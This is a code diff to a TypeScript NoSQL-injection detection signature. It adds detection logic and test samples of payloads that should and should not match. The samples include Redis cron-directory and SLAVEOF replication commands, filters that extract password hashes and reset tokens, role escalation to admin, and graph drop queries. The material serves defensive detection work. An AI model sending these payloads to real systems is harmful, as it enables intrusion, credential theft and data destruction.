@@ -2,17 +2,25 @@ import { bareOperator, operatorInValue, operatorName } from '../nosql/operator-k
 import { foreignClause } from '../nosql/query-languages.ts';
 import { schemaQuery } from '../nosql/schema-query.ts';
 import { scriptBreakOut } from '../nosql/script-break-out.ts';
+import { secretExpression } from '../nosql/secret-expression.ts';
 import { secretFilter } from '../nosql/secret-field.ts';
+import { storeAccess, storeRole } from '../nosql/store-access.ts';
 import { storeCommand } from '../nosql/store-commands.ts';
+import { storeLine } from '../nosql/store-lines.ts';
 import { type Characters, hasAll, hasAny, marksOf, type Reading, readingOf } from '../readings/reading.ts';
+import type { Leaf, LeafKind } from '../request/leaf.ts';
 import type { Finding, Signature } from '../signature.ts';
 
 const DOLLAR = marksOf('$');
-const CODE = marksOf('\'"`;|&(=');
+const CODE = marksOf('\'"`;|&()=');
 /** Brackets behind a field. */
 const FILTER = marksOf('[');
 /** An object as the value of a field. */
 const OBJECT = marksOf('{:');
+/** Of lookups along relations and of operators before a value. */
+const JOINTS = marksOf('_.~:');
+/** Where a text is all that is handed over. */
+const HANDED_ON: ReadonlySet<LeafKind> = new Set(['query', 'form', 'multipart', 'cookie', 'graphql']);
 /** Of the fields by which GraphQL tells its schema. */
 const SCHEMA = marksOf('{_');
 
@@ -32,6 +40,32 @@ export const nosqlInjection: Signature = {
       "';return Object.getOwnPropertyNames(this).length==4;//",
       "';for(var i=0;i<1e9;i++){};'",
       "' SHOW DATABASES //",
+      { query: 'password__startswith=pbkdf2' },
+      { query: 'q[user_reset_password_token_start]=0' },
+      { query: 'user__is_superuser=True' },
+      { query: "$filter=startswith(Password,'a')" },
+      { query: 'order_by=author__password' },
+      { query: 'select=name,users(password_hash)' },
+      { query: 'password=like.a*' },
+      { query: 'q=*:* OR password:*' },
+      { body: '{"where":{"resetToken":{"startsWith":"06"}}}', contentType: 'application/json' },
+      { body: '{"filter":{"_bsontype":"Code"}}', contentType: 'application/json' },
+      { body: '{"roles":["_admin"]}', contentType: 'application/json' },
+      { path: '/_users/_all_docs' },
+      'CONFIG SET dir /var/spool/cron',
+      'SLAVEOF 203.0.113.9 6379',
+      'AUTH x\r\nINFO',
+      "x' or true or Name eq '",
+      'Person) WHERE true RETURN n //',
+      'x") |> range(start:0)',
+      'x" } UNION { ?s ?p ?o } #',
+      'x"} or {job=~".+',
+      "1').drop().V('",
+      'g.V().drop()',
+      'x","role":"admin","a":"b',
+      '{!term f=a}x',
+      ':x OR username = :y',
+      "'; assert(false, tojson(db.getCollectionNames())); '",
       '" UPDATE u WITH {role:"admin"} IN users //',
       '" OR role:admin OR "',
       "') redis.call('CONFIG','SET','dir','/tmp') --",
@@ -87,6 +121,16 @@ export const nosqlInjection: Signature = {
     ],
     misses: [
       '"red shoes" OR title:boots',
+      { query: 'sort=-created_at&fields=name,email&order_by=author__name' },
+      { query: 'q=password: how to reset it' },
+      {
+        body: '{"rules":{"password":{"not":"a"},"name":{"not":"b"},"age":{"gt":"1"}}}',
+        contentType: 'application/json',
+      },
+      'keys to the house * and more',
+      'client list of the week',
+      { path: '/_next/data/x.json' },
+      'x |> map(y)',
       ';(function(){ start(); })()',
       'done; for (var i = 0; i < 9; i++) run(i);',
       { query: '$or[0][status]=open&$or[1][price][$lt]=5' },
@@ -120,23 +164,40 @@ export const nosqlInjection: Signature = {
     ],
   },
   couldMatch(characters: Characters): boolean {
-    return hasAny(characters, DOLLAR | CODE | FILTER) || characters.lineEnd || hasAll(characters, SCHEMA);
+    return hasAny(characters, DOLLAR | CODE | FILTER | JOINTS) || characters.lineEnd || characters.blank;
   },
   match(whole: Reading): Finding | null {
+    if (!hasAny(whole, DOLLAR | CODE | FILTER) && !whole.lineEnd && !hasAll(whole, SCHEMA)) return ofWords(whole);
     const reading = valueIn(whole);
     const dollar = hasAny(reading, DOLLAR);
     const found = [
       dollar && reading.leaf.part === 'name' ? operatorName(reading) : null,
       dollar ? (operatorInValue(reading) ?? bareOperator(reading)) : null,
       hasAny(reading, CODE) ? scriptBreakOut(reading) : null,
-      reading.leaf.part === 'name' || hasAll(reading, OBJECT) ? secretFilter(reading) : null,
+      hasAll(reading, OBJECT) && reading.leaf.part !== 'name' ? secretFilter(reading) : null,
       foreignClause(reading),
+      ofWords(whole),
       reading.lineEnd ? storeCommand(reading) : null,
       hasAll(reading, SCHEMA) ? schemaQuery(reading) : null,
     ];
     return found.reduce((best, each) => ((each?.confidence ?? 0) > (best?.confidence ?? 0) ? each : best), null);
   },
 };
+
+/** What words tell without a quote, a bracket or a dollar: of a name, a path and a parameter. */
+function ofWords(reading: Reading): Finding | null {
+  const { leaf } = reading;
+  if (leaf.part === 'name') return storeAccess(reading) ?? secretFilter(reading);
+  if (leaf.kind === 'path') return storeAccess(reading);
+  if (!isParameter(leaf)) return storeRole(reading);
+  return (reading.blank ? storeLine(reading) : null) ?? secretExpression(reading) ?? storeRole(reading);
+}
+
+/** One text that a caller hands over. */
+function isParameter({ kind, part, isPiece, isAlone }: Leaf): boolean {
+  if (part !== 'value' || isPiece === true) return false;
+  return HANDED_ON.has(kind) || isAlone === true;
+}
 
 /** What a handler takes from a path comes behind its slash. */
 function valueIn(reading: Reading): Reading {
